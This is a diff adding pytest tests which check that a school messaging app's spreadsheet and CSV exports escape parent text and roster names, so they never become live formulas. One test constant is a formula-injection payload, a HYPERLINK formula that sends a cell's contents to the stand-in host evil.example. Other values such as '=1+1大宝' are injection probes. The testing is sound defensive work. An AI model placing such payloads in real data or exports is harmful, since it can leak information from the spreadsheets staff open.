@@ -117,3 +117,51 @@ def test_chat_export_link_works_only_for_the_director_and_expires(ext, db_sessio
     assert client.get(f"/x/{other}").status_code == 403
     ext.clock = lambda: now + dt.timedelta(minutes=31)
     assert client.get(path).status_code == 410
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?d="&G3,"食堂的饭菜太咸了，孩子每天都吃不下，希望学校改进")'
+
+
+def _no_formulas(wb) -> None:
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a live formula: {cell.value!r}"
+
+
+def test_parent_text_is_never_a_live_formula_in_the_ledger(runner, tmp_path, ext, db_session, school):
+    bot = SimBot(ext, db_session)
+    bot.bind("张小明妈妈")
+    bot.say("张小明妈妈", FORMULA)
+    wb, _ = _export(runner, tmp_path, "ledger")
+    _no_formulas(wb)
+    row = dict(zip([c.value for c in wb.active[2]], _rows(wb.active)[0], strict=True))
+    cell = next(c for c in wb.active[3] if c.value == row["问题描述"])
+    assert cell.value.startswith("=HYPERLINK") and cell.quotePrefix  # shown as typed, stored as text
+
+
+def test_roster_names_are_never_live_formulas_in_the_care_list(runner, tmp_path, db_session, school):
+    school.students["陈大宝"].name = "=1+1大宝"
+    school.staff["李强"].name = "@SUM(1)老师"
+    db_session.commit()
+    wb, _ = _export(runner, tmp_path, "care")
+    _no_formulas(wb)
+    values = {c.value for row in wb.active.iter_rows() for c in row}
+    assert "=1+1大宝" in values and "@SUM(1)老师" in values
+
+
+def test_weekly_sheet_and_csv_ledger_escape_formulas(runner, ext, db_session, school, now, tmp_path):
+    from models.weekly import figures as week_figures
+    from models.weekly import write_workbook
+
+    bot = SimBot(ext, db_session)
+    bot.bind("张小明妈妈")
+    bot.say("张小明妈妈", FORMULA)
+    csv_out = runner.invoke(args=["tickets", "list", "--school", "t1", "--csv"]).output
+    assert "'=HYPERLINK" in csv_out and ',=HYPERLINK' not in csv_out and '"=HYPERLINK' not in csv_out
+    from zoneinfo import ZoneInfo
+    tz = ZoneInfo("Asia/Shanghai")
+    start, end = now - dt.timedelta(days=7), now + dt.timedelta(days=1)
+    figures = week_figures(db_session, school.school.id, start, end)
+    path = write_workbook(db_session, school.school, tmp_path / "w.xlsx", figures, figures, start, end, tz)
+    _no_formulas(openpyxl.load_workbook(path))
